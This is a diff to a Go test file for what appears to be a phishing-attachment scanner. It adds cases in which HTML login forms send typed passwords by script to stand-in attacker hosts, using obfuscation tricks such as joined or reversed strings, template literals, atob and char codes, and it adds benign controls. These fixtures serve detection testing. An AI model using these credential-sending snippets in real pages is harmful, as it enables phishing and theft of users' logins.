@@ -63,6 +63,12 @@ func htmlPhishCases() map[string][]sample {
 			{"telegram bot", pageAttach("a.html", loginInputs+`<script>go.onclick=()=>{var t="https://api.telegram.org/bot123456:AAF-kensa/sendMessage?chat_id=1&text="+encodeURIComponent(p.value);new Image().src=t;}</script>`), "2"},
 			{"form action set by script", pageAttach("a.html", `<form id="f" action=""><input name=u><input type=password name=p><button>Go</button></form><script>document.getElementById("f").action = "https://collect.attacker.example/f";</script>`), "2"},
 			{"fetch URL in pieces", pageAttach("a.html", loginInputs+`<script>var h="https://coll"+"ect.attacker.example";go.onclick=function(){fetch(h+"/c",{method:"POST",body:p.value})}</script>`), "2"},
+			// forms pointed and submitted by script
+			{"button formAction set by script", pageAttach("a.html", `<form action=""><input type=password name=p><button id=b>Go</button></form><script>document.getElementById("b").formAction = ["https:", "", "collect.attacker.example", "f"].join("/");</script>`), "2"},
+			{"setAttribute in upper case", pageAttach("a.html", `<form id=f><input type=password name=p></form><script>f.setAttribute("ACTION", "https://collect.attacker.example/f"); f.requestSubmit();</script>`), "2"},
+			{"jQuery attr", pageAttach("a.html", `<form id=f><input type=password name=p></form><script>$("#f").attr("action", "https://" + "collect.attacker.example/f").submit();</script>`), "2"},
+			{"attributes.action.value", pageAttach("a.html", `<form id=f><input type=password name=p></form><script>f.attributes.action.value = "https://collect.attacker.example/f"; document.forms[0].submit();</script>`), "2"},
+			{"form built by script", pageAttach("a.html", loginInputs+`<script>go.onclick = function(){ var f = document.createElement("form"); f.method = "POST"; f.setAttributeNS(null, "action", "https://collect.attacker.example/f"); document.body.appendChild(f); f.submit(); };</script>`), "2"},
 			// 2. the page is written by script
 			{"document.write unescape", pageAttach("Remittance.htm", `<script>document.write(unescape('`+percentAll(written)+`'));</script>`), "2"},
 			{"document.write atob", pageAttach("a.html", `<script>document.write(atob("`+b64+`"))</script>`), "2"},
@@ -110,6 +116,9 @@ func htmlPhishCases() map[string][]sample {
 			{"full-window iframe", pageAttach("a.html", `<body style="margin:0"><iframe src="https://landing.attacker.example/f" width="100%" height="100%" frameborder=0></iframe></body>`), "2"},
 			{"iframe styled to fill", pageAttach("a.html", `<iframe src="https://landing.attacker.example/f" style="position:fixed; top:0; left:0; bottom:0; right:0; border:none"></iframe>`+strings.Repeat("<p>Lorem ipsum dolor sit amet.</p>", 100)), "2"},
 			{"window.open in the same window", pageAttach("a.html", `<script>window.open("https://landing.attacker.example/s", "_self")</script>`), "2"},
+			{"location from joined pieces", pageAttach("a.html", `<script>location.replace(["https:", "", "landing.attacker.example", "j"].join("/"))</script>`), "2"},
+			{"location from a template", pageAttach("a.html", "<script>const h = 'landing.attacker' + '.example';\nwindow.location.href = `https://${h}/t`;</script>"), "2"},
+			{"location from appends", pageAttach("a.html", "<script>var u = 'https://landing.';\nu += 'attacker.example/a';\nlocation.href = u;</script>"), "2"},
 			{"img onerror", pageAttach("a.html", strings.Repeat("<p>Lorem ipsum dolor sit amet.</p>", 100)+`<img src=x onerror="window.location='https://landing.attacker.example/e'">`), "2"},
 			{"frame on an empty page", pageAttach("a.html", `<iframe src="https://landing.attacker.example/e" width="900" height="700"></iframe>`), "2"},
 			{"frameset", pageAttach("a.html", `<frameset rows="100%"><frame src="https://landing.attacker.example/fs"></frameset>`), "2"},
@@ -172,7 +181,7 @@ func TestDecodeJS(t *testing.T) {
 	if markup != "<p></p><a href='https://d.example/'>" {
 		t.Errorf("scriptStrings markup = %q", markup)
 	}
-	if want := []string{"https://a.example/x?u=", "http://b.example/p", "HTTPS://e.example"}; strings.Join(web, " ") != strings.Join(want, " ") {
+	if want := []string{"https://a.example/x?u=", "http://b.example/p", "see https://c.example/", "HTTPS://e.example"}; strings.Join(web, " ") != strings.Join(want, " ") {
 		t.Errorf("scriptStrings web addresses = %q, want %q", web, want)
 	}
 	if _, web := scriptStrings(`a = "https://a.example/"; b = "https://b.example/"`, 1); len(web) != 1 {
@@ -290,7 +299,18 @@ func TestScriptURLs(t *testing.T) {
 		{"$.post pieces to ip", "ip-url", pageAttach("a.html", login+`<script>$("form").submit(function(){ $.post('http://' + '198.51.100.' + '7/gate.php', $(this).serialize()); return false; });</script>`), "2"},
 		{"window.open char codes to DNSBL-listed", "dnsbl-url", pageAttach("a.html", `<script>window.open(String.fromCharCode(`+charCodes("https://go.listed.example/x")+`), '_self')</script>`), "2"},
 		{"userinfo in written script", "userinfo-url", pageAttach("a.html", `<script>document.write(atob('`+b64(`<script>location = unescape("`+percentAll("https://www.microsoft.com@198.51.100.7/login")+`")</`+`script>`)+`'))</script>`), "2"},
+		// addresses built from pieces (constant folding)
+		{"joined with a slash, to lookalike", "lookalike-domain", pageAttach("a.html", `<script>setTimeout(function(){ location.replace(["https:", "", "secure-paypal-login.com", "signin"].join("/")) }, 100)</script>`), "2"},
+		{"template of a variable, to blocklisted", "blocklisted-url", pageAttach("a.html", "<script>var h = 'www.evil' + '.example';\nwindow.location.href = `https://${h}/fax/`;</script>"), "2"},
+		{"concat, to ip", "ip-url", pageAttach("a.html", login+`<script>document.forms[0].onsubmit = function(){ fetch("http://".concat("198.51.100.", "7", "/gate.php"), {method: "POST", body: new FormData(this)}); return false; };</script>`), "2"},
+		{"appended atob, to DNSBL-listed", "dnsbl-url", pageAttach("a.html", `<script>var u = "";`+"\n"+`u = atob('`+b64("https://")+`');`+"\n"+`u += 'go.listed' + '.example/x';`+"\n"+`location.href = u;</script>`), "2"},
+		{"reversed, to blocklisted", "blocklisted-url", pageAttach("a.html", `<script>location = "xaf/elpmaxe.live.www//:sptth".split("").reverse().join("");</script>`), "2"},
+		{"declaration list, to userinfo", "userinfo-url", pageAttach("a.html", "<script>var s = 'https://www.microsoft.com', t = '@198.51.100.7/login';\nlocation.assign(s + t);</script>"), "2"},
+		// an address inside longer text
+		{"in a JSON config, to lookalike", "lookalike-domain", pageAttach("a.html", login+`<script>var cfg = JSON.parse(atob('`+b64(`{"gate":"https://secure-paypal-login.com/api/collect","retry":2}`)+`')); document.forms[0].onsubmit = function(){ fetch(cfg.gate, {method: "POST", body: new FormData(this)}); return false; };</script>`), "2"},
+		{"in a sentence, to blocklisted", "blocklisted-url", pageAttach("a.html", `<script>alert(unescape("`+percentAll("Your session expired. Sign in again at https://www.evil.example/login.")+`"));</script>`), "2"},
 		{"honest redirect", "lookalike-domain", pageAttach("a.html", `<script>location.href = atob('`+b64("https://www.paypal.com/signin")+`')</script>`), ""},
+		{"honest pieces", "lookalike-domain", pageAttach("a.html", `<script>location.href = ["https:", "", "www.paypal.com", "signin"].join("/")</script>`), ""},
 		{"honest redirect, no ip", "ip-url", pageAttach("a.html", `<script>location.href = atob('`+b64("https://www.paypal.com/signin")+`')</script>`), ""},
 		{"body is not run", "blocklisted-url", body(`<script>window.location.href = atob('` + b64("https://www.evil.example/fax/") + `');</script>`), ""},
 	} {
